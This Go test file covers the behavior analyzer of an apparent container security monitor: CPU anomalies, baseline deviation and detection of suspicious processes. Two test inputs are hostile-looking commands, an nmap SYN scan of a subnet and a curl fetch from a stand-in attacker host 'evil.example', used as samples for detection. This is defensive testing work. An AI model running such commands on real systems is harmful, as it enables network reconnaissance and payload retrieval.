package analyzer

import (
	"testing"
	"time"

	"github.com/sentrymon/sentrymon/internal/baseline"
	"github.com/sentrymon/sentrymon/internal/config"
	"github.com/sentrymon/sentrymon/internal/dockerrt"
	"github.com/sentrymon/sentrymon/internal/events"
)

func testConfig() *config.Config {
	cfg := config.Defaults()
	cfg.ContainerPatterns = []string{"*"}
	return &cfg
}

func hasType(evts []events.Event, t events.Type) bool {
	for _, e := range evts {
		if e.EventType == t {
			return true
		}
	}
	return false
}

func TestBehaviorCPUThreshold(t *testing.T) {
	cfg := testConfig()
	b := NewBehavior(cfg)
	store := baseline.NewStore(time.Hour)
	bl := store.GetOrCreate("c1", "web-1", time.Unix(0, 0))

	stats := dockerrt.StatsSnapshot{
		CPUTotalUsage: 9000, CPUTotalUsagePrev: 0,
		SystemUsage: 10000, SystemUsagePrev: 0,
		NumCPUs: 1,
	}
	evts, err := b.Analyze("c1", "web-1", stats, dockerrt.ProcessList{}, bl, time.Unix(1, 0))
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if !hasType(evts, events.TypeResourceAnomaly) {
		t.Fatalf("expected resource_anomaly for 90%% CPU, got %+v", evts)
	}
}

func TestBehaviorBlockedProcess(t *testing.T) {
	cfg := testConfig()
	b := NewBehavior(cfg)
	store := baseline.NewStore(time.Hour)
	bl := store.GetOrCreate("c1", "web-1", time.Unix(0, 0))

	procs := dockerrt.ProcessList{Processes: []dockerrt.Process{{PID: "1", Command: "/usr/bin/nmap -sS 10.0.0.0/24"}}}
	evts, err := b.Analyze("c1", "web-1", dockerrt.StatsSnapshot{}, procs, bl, time.Unix(1, 0))
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if !hasType(evts, events.TypeSuspiciousProcess) {
		t.Fatalf("expected suspicious_process for blocked command, got %+v", evts)
	}
}

func TestBehaviorHeuristicExpectedCommandSuppressed(t *testing.T) {
	cfg := testConfig()
	b := NewBehavior(cfg)
	store := baseline.NewStore(time.Hour)
	bl := store.GetOrCreate("c1", "web-1", time.Unix(0, 0))

	procs := dockerrt.ProcessList{Processes: []dockerrt.Process{{PID: "1", Command: "python3 /app/wget_mirror.py"}}}
	evtsWeb, err := b.Analyze("c1", "web-1", dockerrt.StatsSnapshot{}, procs, bl, time.Unix(1, 0))
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if hasType(evtsWeb, events.TypeSuspiciousProcess) {
		t.Fatalf("a heuristic match inside a command expected for a web container (python) should not be flagged, got %+v", evtsWeb)
	}
}

func TestBehaviorHeuristicUnexpectedCommandFlagged(t *testing.T) {
	cfg := testConfig()
	b := NewBehavior(cfg)
	store := baseline.NewStore(time.Hour)
	bl := store.GetOrCreate("c1", "worker-1", time.Unix(0, 0))

	procs := dockerrt.ProcessList{Processes: []dockerrt.Process{{PID: "1", Command: "curl -s http://evil.example/x"}}}
	evts, err := b.Analyze("c1", "worker-1", dockerrt.StatsSnapshot{}, procs, bl, time.Unix(1, 0))
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if !hasType(evts, events.TypeSuspiciousProcess) {
		t.Fatalf("curl on an unrecognized container kind should be flagged, got %+v", evts)
	}
}

func TestBehaviorDeviationRequiresMinSamples(t *testing.T) {
	cfg := testConfig()
	b := NewBehavior(cfg)
	store := baseline.NewStore(time.Hour)
	bl := store.GetOrCreate("c1", "web-1", time.Unix(0, 0))

	// Seed 5 low-CPU samples so the average is established, then a spike.
	for i := 0; i < 5; i++ {
		bl.RecordCPU(10, time.Unix(int64(i), 0))
	}
	stats := dockerrt.StatsSnapshot{
		CPUTotalUsage: 3000, CPUTotalUsagePrev: 0,
		SystemUsage: 10000, SystemUsagePrev: 0,
		NumCPUs: 1,
	}
	evts, err := b.Analyze("c1", "web-1", stats, dockerrt.ProcessList{}, bl, time.Unix(10, 0))
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if !hasType(evts, events.TypeBehavioralAnomaly) {
		t.Fatalf("expected behavioral_anomaly once baseline established and CPU spikes, got %+v", evts)
	}
}

func TestBehaviorUpdatesBaselineAfterAnalysis(t *testing.T) {
	cfg := testConfig()
	b := NewBehavior(cfg)
	store := baseline.NewStore(time.Hour)
	bl := store.GetOrCreate("c1", "web-1", time.Unix(0, 0))

	_, err := b.Analyze("c1", "web-1", dockerrt.StatsSnapshot{}, dockerrt.ProcessList{}, bl, time.Unix(1, 0))
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	count, _, _ := bl.CPUStats(1)
	if count != 1 {
		t.Fatalf("expected baseline to record 1 CPU sample after analysis, got %d", count)
	}
}
